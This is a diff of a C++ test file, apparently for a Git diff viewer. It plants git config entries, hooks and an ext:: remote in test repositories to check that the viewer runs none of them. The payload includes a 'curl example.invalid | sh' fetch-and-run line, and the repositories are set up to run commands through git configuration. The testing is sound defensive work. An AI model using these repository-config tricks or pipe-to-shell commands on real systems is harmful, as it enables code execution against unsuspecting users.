@@ -4,35 +4,158 @@
 
 #include "viewer/GitDiffLoader.h"
 
-#include "HostileRepos.h"
 #include "QtPrinters.h"
+#include "TestRepo.h"
 
 #include <QDir>
 #include <QFile>
+#include <QFileInfo>
+#include <QTemporaryDir>
 
 #include <gtest/gtest.h>
 
 #include <sys/stat.h>
+#include <utime.h>
 
 namespace {
 
+const QString kPayload = QStringLiteral("payload.txt");
+
+enum class Twist {
+    None,
+    CrlfFile,      // the payload has CRLF line ends, which the twin's plain diff drops as the viewer must
+    IndexHook,     // post-index-change hook, fired when a refresh rewrites the index
+    PromisorFetch, // partial clone whose missing blob is fetched through an ext:: command
+};
+
+struct HostileCase
+{
+    const char* name;
+    const char* attributes; // .gitattributes of the repository
+    const char* configKey;  // set to a planted script; nullptr: none
+    const char* scriptRest; // what the script does after marking
+    Twist twist;
+};
+
+const HostileCase kCases[] = {
+    {"fsmonitor hook", "", "core.fsmonitor", "exit 1", Twist::None},
+    {"external diff tool", "", "diff.external", "exit 0", Twist::None},
+    {"textconv driver", "*.txt diff=evil\n", "diff.evil.textconv", "cat \"$1\"", Twist::None},
+    {"clean filter", "*.txt filter=evil\n", "filter.evil.clean", "cat", Twist::None},
+    {"long-running filter process", "*.txt filter=evil\n", "filter.evil.process", "exit 1", Twist::None},
+    {"clean filter beside eol attributes", "*.txt text eol=crlf filter=evil\n", "filter.evil.clean", "cat",
+     Twist::CrlfFile},
+    {"post-index-change hook", "", nullptr, "", Twist::IndexHook},
+    {"promisor fetch of a missing blob", "", nullptr, "", Twist::PromisorFetch},
+};
+
+void check(const GitOutput& r, const char* what)
+{
+    if (r.exitCode != 0)
+        throw std::runtime_error(std::string(what) + ": " + r.err.toStdString());
+}
+
+void writeBase(TestRepo& repo, const HostileCase& c)
+{
+    repo.init();
+    if (*c.attributes)
+        repo.write(QStringLiteral(".gitattributes"), c.attributes);
+    repo.write(kPayload, "echo safe\n");
+    repo.write(QStringLiteral("other.txt"), "unrelated\n");
+}
+
+// A repository whose configuration makes plain `git diff HEAD` start a program that appends to a
+// marker outside it, with the payload modified since HEAD, and a "twin" with the same files and
+// nothing configured, whose plain diff is what the viewer must show.
+struct HostileRepo
+{
+    explicit HostileRepo(const HostileCase& c);
+
+    QTemporaryDir markers;
+    QString marker = markers.filePath(QStringLiteral("ran"));
+    TestRepo repo;
+    TestRepo twin;
+    QString file; // what the viewer opens
+    QByteArray expectedDiff;
+
+    // Scripts live inside .git, where they are never committed, like an attacker's would in a
+    // repository unpacked from an archive.
+    QString plantScript(const QString& relative, const char* rest)
+    {
+        repo.write(relative, QStringLiteral("#!/bin/sh\necho ran >> '%1'\n%2\n").arg(marker, rest).toUtf8());
+        QFile::setPermissions(repo.path(relative), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
+        return repo.path(relative);
+    }
+};
+
+HostileRepo::HostileRepo(const HostileCase& c)
+{
+    if (c.twist == Twist::PromisorFetch) {
+        // A server with the blob, and a blobless clone that only knows its name.
+        writeBase(twin, c);
+        twin.commitAll();
+        check(twin.git({QStringLiteral("config"), QStringLiteral("uploadpack.allowFilter"),
+                        QStringLiteral("true")}),
+              "config");
+        const QString clone = repo.path(QStringLiteral("clone"));
+        check(runTestGit(repo.root(),
+                         {QStringLiteral("clone"), QStringLiteral("-q"), QStringLiteral("--filter=blob:none"),
+                          QStringLiteral("--no-checkout"), QStringLiteral("file://") + twin.root(), clone}),
+              "clone");
+        const auto inClone = [&](const QStringList& args) { check(runTestGit(clone, args), "in the clone"); };
+        inClone({QStringLiteral("read-tree"), QStringLiteral("HEAD")});
+        inClone({QStringLiteral("config"), QStringLiteral("protocol.ext.allow"), QStringLiteral("always")});
+        inClone({QStringLiteral("config"), QStringLiteral("remote.origin.url"),
+                 QStringLiteral("ext::sh -c echo% ran% >>%1").arg(marker)});
+        file = clone + QLatin1Char('/') + kPayload;
+        QFile out(file);
+        if (!out.open(QIODevice::WriteOnly) || out.write("echo pwned\n") < 0)
+            throw std::runtime_error("cannot write payload");
+        return; // the blob cannot be fetched, so there is nothing to compare with: no diff
+    }
+    writeBase(repo, c);
+    repo.commitAll();
+    if (c.configKey) {
+        const QString script = plantScript(QStringLiteral(".git/evil/script"), c.scriptRest);
+        check(repo.git({QStringLiteral("config"), QString::fromUtf8(c.configKey), script}), "git config");
+    }
+    writeBase(twin, c);
+    twin.commitAll();
+    file = repo.path(kPayload);
+    if (c.twist == Twist::IndexHook) {
+        plantScript(QStringLiteral(".git/hooks/post-index-change"), "");
+        // Same content, newer time: a refresh rewrites the index, which fires the hook.
+        struct utimbuf past
+        {
+        };
+        past.actime = past.modtime = 1000000000;
+        ::utime(QFile::encodeName(file).constData(), &past);
+        check(repo.git({QStringLiteral("update-index"), QStringLiteral("--refresh")}), "refresh");
+        ::utime(QFile::encodeName(file).constData(), nullptr);
+        return;
+    }
+    const QByteArray modified = c.twist == Twist::CrlfFile ? "echo pwned\r\ncurl example.invalid | sh\r\n"
+                                                           : "echo pwned\ncurl example.invalid | sh\n";
+    repo.write(kPayload, modified);
+    twin.write(kPayload, modified);
+    expectedDiff = twin.plainDiff(kPayload);
+}
+
 TEST(ViewerHostileRepo, LoaderRunsNoRepositoryProgramAndStillShowsTheDiff)
 {
-    for (const HostileCase& c : hostileCases()) {
+    for (const HostileCase& c : kCases) {
         SCOPED_TRACE(c.name);
-        const HostileSetup setup = makeHostileRepo(c);
-        const QByteArray expected = setup.expectedDiff();
-
-        setup.clearMarker();
-        plainGitDiff(setup.file);
-        ASSERT_TRUE(setup.markerExists())
+        const HostileRepo hostile(c);
+        QFile::remove(hostile.marker);
+        plainGitDiff(hostile.file);
+        ASSERT_TRUE(QFileInfo::exists(hostile.marker))
             << "plain git did not run the planted program: the case proves nothing";
-        setup.clearMarker();
+        QFile::remove(hostile.marker);
 
-        const QString diff = loadGitDiff(setup.file);
-        EXPECT_FALSE(setup.markerExists());
-        EXPECT_EQ(diff.toUtf8().toStdString(), expected.toStdString());
-        if (c.kind != HostileKind::IndexHook && c.kind != HostileKind::PromisorFetch)
+        const QString diff = loadGitDiff(hostile.file);
+        EXPECT_FALSE(QFileInfo::exists(hostile.marker));
+        EXPECT_EQ(diff.toUtf8().toStdString(), hostile.expectedDiff.toStdString());
+        if (c.twist == Twist::None || c.twist == Twist::CrlfFile)
             EXPECT_TRUE(diff.contains(QStringLiteral("+curl example.invalid | sh")));
     }
 }
